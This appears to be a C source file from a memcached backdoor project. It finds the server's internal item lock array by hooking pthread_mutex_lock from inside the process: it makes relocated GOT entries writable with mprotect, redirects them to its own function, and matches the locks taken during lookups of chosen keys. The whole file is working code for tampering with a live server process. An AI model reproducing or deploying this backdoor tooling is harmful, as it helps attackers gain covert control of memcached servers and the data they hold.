/*
 * Where the items' locks are, by experiment in the proof's child.
 *
 * item_get first locks the item's lock (thread.c: item_get, item_lock):
 * item_locks[hv & hashmask(item_lock_hashpower)].  The child sees which lock that is for keys whose
 * hashes are known, and the array and its size follow: no other array and size has all locks where
 * they were.
 *
 * To see it, the program's own reference to pthread_mutex_lock is replaced, in the child.
 */
#define _GNU_SOURCE
#include "locate.h"

#include "abi.h"

#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define KEYS 32

/* thread.c: memcached_thread_init has 10 to 15, by -t; the range here is wider. */
#define POWER_MIN 1
#define POWER_MAX 24

#if defined __x86_64__
#define JUMP_SLOT R_X86_64_JUMP_SLOT
#define GLOB_DAT R_X86_64_GLOB_DAT
#elif defined __aarch64__
#define JUMP_SLOT R_AARCH64_JUMP_SLOT
#define GLOB_DAT R_AARCH64_GLOB_DAT
#endif

static pthread_mutex_t *first; /* the first one that was locked since this was set to NULL */

static int note_lock(pthread_mutex_t *mutex) {
    if (first == NULL) {
        first = mutex;
    }
    return pthread_mutex_lock(mutex);
}

/* The program's dynamic section, as the loader has relocated it. */
static struct {
    uintptr_t bias;
    const ElfW(Sym) * symbols;
    const char *strings;
    const ElfW(Rela) * rela, *jmprel;
    size_t nrela, njmprel;
} dynamic;

static bool read_dynamic(void) {
    size_t n;
    const ElfW(Phdr) *phdr = program_headers(&n, &dynamic.bias);
    const ElfW(Dyn) *section = NULL;
    for (size_t i = 0; i < n; i++) {
        if (phdr[i].p_type == PT_DYNAMIC) {
            section = (const ElfW(Dyn) *)(dynamic.bias + phdr[i].p_vaddr);
        }
    }
    for (const ElfW(Dyn) *d = section; d != NULL && d->d_tag != DT_NULL; d++) {
        uintptr_t address = d->d_un.d_ptr; /* glibc has relocated it in place */
        switch (d->d_tag) {
        case DT_SYMTAB:
            dynamic.symbols = (const ElfW(Sym) *)address;
            break;
        case DT_STRTAB:
            dynamic.strings = (const char *)address;
            break;
        case DT_RELA:
            dynamic.rela = (const ElfW(Rela) *)address;
            break;
        case DT_RELASZ:
            dynamic.nrela = d->d_un.d_val / sizeof(ElfW(Rela));
            break;
        case DT_JMPREL:
            dynamic.jmprel = (const ElfW(Rela) *)address;
            break;
        case DT_PLTRELSZ:
            dynamic.njmprel = d->d_un.d_val / sizeof(ElfW(Rela));
            break;
        }
    }
    return dynamic.symbols != NULL && dynamic.strings != NULL;
}

/* Makes the references to name among the relocations lead to function.  Returns their number. */
static unsigned redirect(const ElfW(Rela) * relocations, size_t n, const char *name,
                         uintptr_t function) {
    unsigned redirected = 0;
    uintptr_t page = (uintptr_t)sysconf(_SC_PAGESIZE);
    for (size_t i = 0; relocations != NULL && i < n; i++) {
        unsigned type = ELF64_R_TYPE(relocations[i].r_info);
        const ElfW(Sym) *symbol = &dynamic.symbols[ELF64_R_SYM(relocations[i].r_info)];
        if ((type != JUMP_SLOT && type != GLOB_DAT) ||
            strcmp(dynamic.strings + symbol->st_name, name) != 0) {
            continue;
        }
        uintptr_t *slot = (uintptr_t *)(dynamic.bias + relocations[i].r_offset);
        void *at = (void *)((uintptr_t)slot & ~(page - 1));
        if (mprotect(at, page, PROT_READ | PROT_WRITE) != 0) { /* RELRO */
            return 0;
        }
        *slot = function;
        redirected++;
    }
    return redirected;
}

/* Are the locks where they must be in an array of 2^power?  Sets *array. */
static bool is_array(pthread_mutex_t *const *locks, const uint32_t *hvs, unsigned power,
                     uintptr_t *array) {
    uint32_t mask = (UINT32_C(1) << power) - 1;
    *array = (uintptr_t)locks[0] - (hvs[0] & mask) * sizeof(pthread_mutex_t);
    for (unsigned i = 1; i < KEYS; i++) {
        if ((uintptr_t)locks[i] - (hvs[i] & mask) * sizeof(pthread_mutex_t) != *array) {
            return false;
        }
    }
    return true;
}

bool locate_locks(struct backdoor_worker *worker, uint64_t *array, uint32_t *mask) {
    uintptr_t function = (uintptr_t)note_lock;
    if (mc_functions.hash == 0 || !read_dynamic() ||
        redirect(dynamic.jmprel, dynamic.njmprel, "pthread_mutex_lock", function) +
                redirect(dynamic.rela, dynamic.nrela, "pthread_mutex_lock", function) ==
            0) {
        return false;
    }
    pthread_mutex_t *locks[KEYS];
    uint32_t hvs[KEYS];
    for (unsigned i = 0; i < KEYS; i++) {
        char key[64];
        int nkey = snprintf(key, sizeof key, "memcached-backdoor:locks:%u", i);
        hvs[i] = mc_hash(key, (size_t)nkey);
        first = NULL;
        if (mc_item_get(key, (size_t)nkey, worker) != NULL || first == NULL) {
            return false;
        }
        locks[i] = first;
    }
    unsigned found = 0;
    for (unsigned power = POWER_MIN; power <= POWER_MAX; power++) {
        uintptr_t at;
        if (is_array(locks, hvs, power, &at)) {
            *array = at;
            *mask = (UINT32_C(1) << power) - 1;
            found++;
        }
    }
    return found == 1;
}
